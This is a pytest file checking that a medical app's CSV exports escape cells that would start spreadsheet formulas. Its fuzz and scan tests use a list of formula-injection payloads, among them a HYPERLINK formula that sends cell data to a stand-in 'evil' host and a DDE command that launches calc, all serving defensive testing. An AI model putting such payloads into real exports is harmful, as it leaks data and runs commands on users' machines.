"""CSV exports never hand a spreadsheet a formula to run (``=``, ``+``, ``-``, ``@`` and friends).

``services.spreadsheet.safe_cell`` is the one escaping function; every CSV writer in the package
uses it (the source scan finds any new one that does not, or one with its own copy), and the
writer every export goes through (``services/export.py``) is fuzzed with hostile patient names.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import nmdbone_desktop
from nmdbone_desktop.services.spreadsheet import FORMULA_STARTS, safe_cell

PACKAGE = Path(nmdbone_desktop.__file__).parent
HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "\n=1", "  =1+1", "\u00a0=1", "\uff1d1+1"]


def _dangerous(cell: str) -> bool:
    return cell.lstrip(" \u00a0").startswith(FORMULA_STARTS)


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_is_shown_not_run(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(("value", "cell"), [
    (None, ""), (True, "true"), (False, "false"), (42, "42"), (-2.5, "-2.5"), (float("nan"), ""),
    (date(2026, 11, 21), "2026-11-21"), ("Müller, Anna", "Müller, Anna"), ("O'Brien", "O'Brien"), ("", ""),
])
def test_ordinary_values(value: object, cell: str) -> None:
    assert safe_cell(value) == cell


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_no_text_cell_starts_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert not _dangerous(cell)
    assert cell in (text, "'" + text)  # nothing else is altered


def test_every_csv_writer_in_the_package_escapes_its_cells() -> None:
    """A module that writes CSV must pass its cells through the one safe_cell, never a copy of its own."""
    writers = []
    for path in sorted(PACKAGE.rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        assert "def safe_cell(" not in text or path.name == "spreadsheet.py", f"{path}: a second escaping function"
        if re.search(r"\bcsv\.(writer|DictWriter)\(", text):
            writers.append(path.relative_to(PACKAGE).as_posix())
            assert "safe_cell(" in text, f"{path}: writes CSV without escaping formula cells"
            assert "from .spreadsheet import safe_cell" in text, f"{path}: not the one safe_cell"
    assert writers, "the scan found no CSV writer at all: has the worklist export moved?"


def test_every_export_uses_this_safe_cell() -> None:
    from nmdbone_desktop.services import export

    assert export.safe_cell is safe_cell


def test_worklist_csv_writer_escapes_hostile_names() -> None:
    """The writer of every export escapes OWASP's list and also a leading line feed, leading spaces
    and the full-width forms."""
    from nmdbone_desktop.services.export import write_rows

    out = io.StringIO()
    write_rows(out, ["patient_id", "name", "percent"], [[f"P{i}", name, -12.5] for i, name in enumerate(HOSTILE)])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert [row[1] for row in rows[1:]] == ["'" + name for name in HOSTILE]
    assert all(row[2] == "-12.5" for row in rows[1:])  # numbers stay numbers


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(st.text(), st.none(), st.integers(), st.floats(allow_nan=False, allow_infinity=False)),
                min_size=1, max_size=5))
def test_no_exported_cell_starts_a_formula(cells: list[object]) -> None:
    """Fuzzed through the writer every export uses: what a spreadsheet reads back never runs."""
    from nmdbone_desktop.services.export import write_rows

    out = io.StringIO()
    write_rows(out, [f"c{i}" for i in range(len(cells))], [cells])
    (row,) = list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1:]
    for value, cell in zip(cells, row, strict=True):
        if isinstance(value, str):
            assert not _dangerous(cell) and cell in (value, "'" + value)
        elif value is None:
            assert cell == ""
        else:  # numbers stay numbers
            assert (int(cell) if isinstance(value, int) else float(cell)) == value
